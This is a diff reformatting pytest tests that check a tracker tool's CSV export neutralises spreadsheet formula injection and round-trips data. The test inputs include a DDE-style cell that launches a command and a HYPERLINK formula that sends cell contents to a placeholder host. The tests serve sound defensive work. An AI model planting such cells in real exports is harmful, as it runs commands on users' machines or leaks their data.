@@ -16,10 +16,20 @@ from ..conftest import REPO, RunCli, Tracker
 # --- CSV injection: the cells a spreadsheet would run ---------------------------------------------------------
 
 
-@pytest.mark.parametrize("title", ["=1+1", "+SUM(A1:A2)", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\tTAB=1",
-                                   "=HYPERLINK(\"http://example.invalid?x=\"&A1,\"click\")"])  # fmt: skip
-def test_csv_export_defuses_every_formula_trigger_and_imports_back(title: str, tracker: Tracker, run_cli: RunCli,
-                                                                    tmp_path: Path) -> None:  # fmt: skip
+@pytest.mark.parametrize(
+    "title",
+    [
+        "=1+1",
+        "+SUM(A1:A2)",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\tTAB=1",
+        '=HYPERLINK("http://example.invalid?x="&A1,"click")',
+    ],
+)
+def test_csv_export_defuses_every_formula_trigger_and_imports_back(
+    title: str, tracker: Tracker, run_cli: RunCli, tmp_path: Path
+) -> None:
     import json
 
     path = tracker.root / "data/workplan/org-a.yaml"
@@ -61,13 +71,19 @@ def test_export_then_import_gives_the_same_tracker(kind: str, fmt: str, tmp_path
     assert result.exit_code == 0, result.stderr
     a, b = load_tracker(source), load_tracker(target)
     if kind == "actions":
-        assert [(e.section.id, e.section.title, e.model) for e in b.actions] == \
-               [(e.section.id, e.section.title, e.model) for e in a.actions]  # type: ignore[union-attr]  # fmt: skip
+        assert [(e.section.id, e.section.title, e.model) for e in b.actions] == [
+            (e.section.id, e.section.title, e.model) for e in a.actions
+        ]  # type: ignore[union-attr]
     else:  # a block scalar's final line break is YAML layout, not text a spreadsheet cell keeps
+
         def text(e: object) -> object:
             m = e.model  # type: ignore[attr-defined]
-            return m.model_copy(update={"position": m.position and m.position.rstrip("\n"),
-                                        "reason": m.reason and m.reason.rstrip("\n")})
+            return m.model_copy(
+                update={
+                    "position": m.position and m.position.rstrip("\n"),
+                    "reason": m.reason and m.reason.rstrip("\n"),
+                }
+            )
 
         assert [text(e) for e in b.assessments] == [text(e) for e in a.assessments]
     again = run_cli("import", kind, str(out), "--org", org, root=source)
@@ -78,7 +94,7 @@ def test_csv_export_neutralises_formulas(tracker_with_formula: Path, tmp_path: P
     out = tmp_path / "actions.csv"
     assert run_cli("export", "actions", "-o", str(out), root=tracker_with_formula).exit_code == 0
     rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
-    assert rows[1][4] == "'=HYPERLINK(\"http://example.invalid\")"
+    assert rows[1][4] == '\'=HYPERLINK("http://example.invalid")'
     assert rows[1][6] == "'-1 budget line"
 
 
@@ -88,6 +104,7 @@ def tracker_with_formula(tracker: object) -> Path:
     path = root / "data/workplan/org-a.yaml"
     text = path.read_text().replace(
         "title: Write the strategy",
-        "title: '=HYPERLINK(\"http://example.invalid\")'\n        outcome: '-1 budget line'")
+        "title: '=HYPERLINK(\"http://example.invalid\")'\n        outcome: '-1 budget line'",
+    )
     path.write_text(text)
     return root
